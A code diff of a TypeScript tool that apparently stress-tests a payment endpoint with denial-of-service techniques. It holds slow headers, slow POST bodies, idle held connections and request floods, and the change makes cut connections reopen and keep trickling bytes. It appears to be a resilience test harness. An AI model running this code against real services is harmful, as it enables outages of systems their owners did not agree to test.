@@ -2,21 +2,21 @@
 // connections it has made and how many are open, and ends when its input ends.
 import { randomBytes } from 'node:crypto'
 import { connect, type Socket } from 'node:net'
-import { setImmediate as nextTurn } from 'node:timers/promises'
+import { setImmediate as nextTurn, setTimeout as pause } from 'node:timers/promises'
 
 /** Slow ones are opened by so many at a time, as a machine's queue of new connections allows. */
 const OPENED_AT_ONCE = 250
 /** How often it is told how far the attack is. Milliseconds. */
 const TELL_MS = 200
-/** How often the slow send one more byte, which keeps them from looking idle. Milliseconds. */
-const SLOW_BYTE_MS = 2_000
+/** How often the slow send one more byte, and those that were cut come back. Milliseconds. */
+const SLOW_MS = 2_000
 
 const SLOW_HEADERS = 'POST /unipay/syncPay HTTP/1.1\r\nHost: x\r\nX-Slow: '
 const post = (length: number, body: string) =>
   `POST /unipay/syncPay HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n${body}`
 const SLOW_BODY = post(1000, '{')
 
-/** Opened once and held: the first bytes of each connection. */
+/** Opened and held, and opened again when cut: the first bytes of each connection. */
 const HELD: Readonly<Record<string, (index: number) => string>> = {
   'idle connections': () => '',
   'headers that never end': () => SLOW_HEADERS,
@@ -46,7 +46,6 @@ const [, , url = '', attack = '', count = ''] = process.argv
 const { hostname, port } = new URL(url)
 const open = new Set<Socket>()
 let made = 0
-let isOver = false
 
 /** Resolves once connected, or refused. An attacker does not mind being cut. */
 async function dial(bytes: string | Buffer): Promise<Socket> {
@@ -68,13 +67,18 @@ async function dial(bytes: string | Buffer): Promise<Socket> {
 }
 
 async function hold(first: (index: number) => string): Promise<void> {
-  for (let from = 0; from < Number(count) && !isOver; from += OPENED_AT_ONCE) {
-    await Promise.all(Array.from({ length: OPENED_AT_ONCE }, async (_, offset) => await dial(first(from + offset))))
+  for (;;) {
+    for (let missing = Number(count) - open.size; missing > 0; missing -= OPENED_AT_ONCE) {
+      await Promise.all(Array.from({ length: OPENED_AT_ONCE }, async () => await dial(first(made))))
+    }
+    await pause(SLOW_MS)
+    if (attack === 'idle connections') continue
+    for (const socket of open) if (socket.writable) socket.write('x')
   }
 }
 
 async function flood(bytes: () => Buffer): Promise<void> {
-  while (!isOver) {
+  for (;;) {
     const socket = await dial(bytes())
     // A request that is answered is over; one that is cut is as well.
     if (!socket.closed) {
@@ -87,19 +91,8 @@ async function flood(bytes: () => Buffer): Promise<void> {
   }
 }
 
-const timers = [setInterval(() => process.stdout.write(`${JSON.stringify({ made, open: open.size })}\n`), TELL_MS)]
-if (attack !== 'idle connections' && attack in HELD) {
-  timers.push(
-    setInterval(() => {
-      for (const socket of open) if (socket.writable) socket.write('x')
-    }, SLOW_BYTE_MS),
-  )
-}
-process.stdin.resume().once('end', () => {
-  isOver = true
-  for (const timer of timers) clearInterval(timer)
-  for (const socket of open) socket.destroy()
-})
+setInterval(() => process.stdout.write(`${JSON.stringify({ made, open: open.size })}\n`), TELL_MS)
+process.stdin.resume().once('end', () => process.exit(0))
 const held = HELD[attack]
 const flooding = FLOODS[attack]
 if (held !== undefined) await hold(held)
